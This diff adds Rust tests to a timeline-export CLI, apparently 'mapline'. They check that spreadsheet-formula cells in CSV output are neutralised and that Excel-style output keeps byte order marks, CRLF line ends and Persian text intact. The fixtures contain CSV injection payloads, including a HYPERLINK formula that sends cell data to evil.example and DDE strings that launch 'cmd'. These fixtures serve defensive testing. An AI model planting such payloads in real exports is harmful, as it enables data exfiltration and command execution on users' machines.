@@ -153,3 +153,125 @@ fn generate_writes_acled_and_timelinejs_files_that_open() {
     assert!(csv.contains("\"\"no to poverty, no to war\"\""));
     assert!(csv.contains(".\nA second report"));
 }
+
+/// The cells of a CSV file (after a byte order mark, if any).
+fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
+    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
+    csv::Reader::from_reader(bytes)
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect()
+}
+
+#[test]
+fn csv_cells_a_spreadsheet_would_run_are_neutralised_unless_raw() {
+    let tmp = tempfile::tempdir().unwrap();
+    let input = tmp.path().join("hostile.json");
+    let headline = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    let text = "+cmd|' /C calc'!A0";
+    let file = serde_json::json!({
+        "events": [{
+            "start_date": {"year": "2022", "month": "7", "day": "15"},
+            "text": {"headline": headline, "text": text}
+        }, {
+            "start_date": {"year": "2022", "month": "9", "day": "7"},
+            "text": {"headline": "@SUM(1+1)*cmd|' /C calc'!A0", "text": "-2+3+cmd|' /C calc'!A0"}
+        }]
+    });
+    std::fs::write(&input, serde_json::to_vec(&file).unwrap()).unwrap();
+    let out = tmp.path().join("out.csv");
+    let (ok, _, stderr) = mapline(&[
+        "export",
+        "--format",
+        "csv",
+        input.to_str().unwrap(),
+        out.to_str().unwrap(),
+    ]);
+    assert!(ok, "{stderr}");
+    let rows = csv_rows(&std::fs::read(&out).unwrap());
+    let cells: Vec<&String> = rows.iter().flatten().collect();
+    assert!(
+        cells.iter().any(|c| **c == format!("'{headline}")),
+        "{rows:?}"
+    );
+    assert!(cells.iter().any(|c| c.starts_with("'+cmd")), "{rows:?}");
+    assert!(cells.iter().any(|c| c.starts_with("'@SUM")), "{rows:?}");
+    assert!(cells.iter().any(|c| c.starts_with("'-2+3")), "{rows:?}");
+    for c in &cells {
+        assert!(
+            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {c:?}"
+        );
+    }
+    // --csv-raw writes them as they are.
+    let (ok, _, stderr) = mapline(&[
+        "export",
+        "--format",
+        "csv",
+        "--csv-raw",
+        input.to_str().unwrap(),
+        out.to_str().unwrap(),
+    ]);
+    assert!(ok, "{stderr}");
+    let rows = csv_rows(&std::fs::read(&out).unwrap());
+    let cells: Vec<&String> = rows.iter().flatten().collect();
+    assert!(cells.iter().any(|c| **c == headline), "{rows:?}");
+    assert!(cells.iter().any(|c| **c == text), "{rows:?}");
+}
+
+#[test]
+fn negative_coordinates_stay_numbers_and_excel_csv_keeps_every_script() {
+    let tmp = tempfile::tempdir().unwrap();
+    let out = tmp.path().join("view.csv");
+    let (ok, _, stderr) = mapline(&["export", "--format", "csv", out.to_str().unwrap()]);
+    assert!(ok, "{stderr}");
+    let plain = std::fs::read(&out).unwrap();
+    assert!(
+        !plain.starts_with("\u{feff}".as_bytes()),
+        "plain UTF-8 by default"
+    );
+    let rows = csv_rows(&plain);
+    let lon = mapline::io::csv::HEADER
+        .iter()
+        .position(|h| *h == "lon")
+        .unwrap();
+    let negative: Vec<&str> = rows
+        .iter()
+        .map(|r| r[lon].as_str())
+        .filter(|l| l.starts_with('-'))
+        .collect();
+    assert!(!negative.is_empty(), "Washington lies west of Greenwich");
+    assert!(
+        negative.iter().all(|l| l.parse::<f64>().is_ok()),
+        "{negative:?}"
+    );
+
+    // A Persian title, for spreadsheets: a byte order mark, CRLF, intact.
+    let input = tmp.path().join("persian.json");
+    let title = "قطع روابط دیپلماتیک آلبانی با ایران — Shqipëria";
+    let file = serde_json::json!({
+        "events": [{
+            "start_date": {"year": "2022", "month": "9", "day": "7"},
+            "text": {"headline": title}
+        }]
+    });
+    std::fs::write(&input, serde_json::to_vec(&file).unwrap()).unwrap();
+    let (ok, _, stderr) = mapline(&[
+        "export",
+        "--format",
+        "csv",
+        "--excel",
+        input.to_str().unwrap(),
+        out.to_str().unwrap(),
+    ]);
+    assert!(ok, "{stderr}");
+    let bytes = std::fs::read(&out).unwrap();
+    assert!(
+        bytes.starts_with("\u{feff}".as_bytes()),
+        "a byte order mark"
+    );
+    assert!(bytes.windows(2).any(|w| w == b"\r\n"), "CRLF line ends");
+    assert!(!bytes.windows(2).any(|w| w[1] == b'\n' && w[0] != b'\r'));
+    let rows = csv_rows(&bytes);
+    assert!(rows.iter().flatten().any(|c| c == title), "{rows:?}");
+}
